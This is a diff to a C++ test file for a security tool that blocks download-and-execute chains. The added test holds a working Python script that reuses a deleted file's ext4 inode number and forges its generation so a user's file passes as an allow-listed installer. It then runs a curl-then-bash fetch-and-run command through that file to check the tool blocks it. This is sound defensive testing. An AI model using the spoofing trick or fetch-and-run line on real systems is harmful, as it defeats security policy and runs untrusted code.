@@ -79,6 +79,64 @@ TEST_P(RolesTakenByUser, NeverKillSparesRootsAlone)
 
 INSTANTIATE_TEST_SUITE_P(Live, RolesTakenByUser, testing::Bool());
 
+// ext4 gives the number of a removed file again, and without checksums of metadata the new file's
+// owner may set its generation (FS_IOC_SETVERSION): a user's file looks like the policy's.
+const char* const kTake = R"(import fcntl, os, struct, sys
+folder, number, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+generation = open(sys.argv[4]).read()
+for i in range(200):
+    fd = os.open(f"{folder}/{i}", os.O_CREAT | os.O_RDWR, 0o755)
+    if os.fstat(fd).st_ino == number:
+        fcntl.ioctl(fd, 0x40087602, struct.pack("q", int(generation)))
+        os.write(fd, open(source, "rb").read())
+        os.rename(f"{folder}/{i}", f"{folder}/taken")
+        break
+)";
+const char* const kGeneration = R"(import fcntl, os, struct, sys
+b = bytearray(8)
+fcntl.ioctl(os.open(sys.argv[1], os.O_RDONLY), 0x80087601, b)
+print(struct.unpack("I", b[:4])[0])
+)";
+
+// Whose the listed file was: `root`'s, and a `user`'s, who could have written it at any time.
+class RolesTakenByNumber : public testing::TestWithParam<const char*> {};
+
+TEST_P(RolesTakenByNumber, ExemptNobodyButItsOwner)
+{
+    ChainSite site;
+    const std::string owner = GetParam();
+    const std::string mount = site.folder / "m", tool = mount + "/tool";
+    site.folder.write("take.py", kTake);
+    site.folder.write("generation.py", kGeneration);
+    std::string made =
+        site.fill("cd @D; mkdir m; truncate -s 32M f; mkfs.ext4 -q -F -O ^metadata_csum f; "
+                  "mount -o loop f m; mkdir m/user; chown 65534 m/user; cp /bin/true m/tool; ");
+    if (owner == "user")
+        made += "chown 65534 " + tool + "; ";
+    ASSERT_EQ(std::system((made + site.fill("/usr/bin/python3 @D/generation.py ") + tool +
+                           " > generation; stat -c %i m/tool > number")
+                              .c_str()),
+              0);
+    GuardOptions options;
+    options.mode = Mode::block;
+    options.policy = R"({"detections": {"chain": {"installers": [")" + tool + R"("]}}})";
+    options.command = bash(replaced(
+        site.fill("cd @D; chmod 711 .; rm m/tool; "
+                  "@USER /usr/bin/python3 - m/user $(cat number) /bin/bash generation < take.py; "
+                  "[ -e m/user/taken ] && touch took; chmod 777 .; "
+                  "@USER m/user/taken -c 'curl -s -o @D/x @URL; bash @D/x; true'"),
+        "@USER", "setpriv --reuid 65534 --regid 65534 --clear-groups"));
+    GuardResult result = run_guard(options);
+    EXPECT_EQ(std::system(("umount -l " + mount).c_str()), 0);
+    SCOPED_TRACE(result.out + result.err);
+    ASSERT_TRUE(exists(site.folder / "took")) << "the attack itself does not work";
+    EXPECT_EQ(exists(site.marker()), owner == "user");
+    if (owner == "root")
+        EXPECT_THAT(result.codes(), testing::Contains("CHAIN-003"));
+}
+
+INSTANTIATE_TEST_SUITE_P(Live, RolesTakenByNumber, testing::Values("root", "user"));
+
 // A shell by any other name is a shell: what its file holds counts before what it is called.
 class RolesTakenByName : public testing::TestWithParam<const char*> {};
 
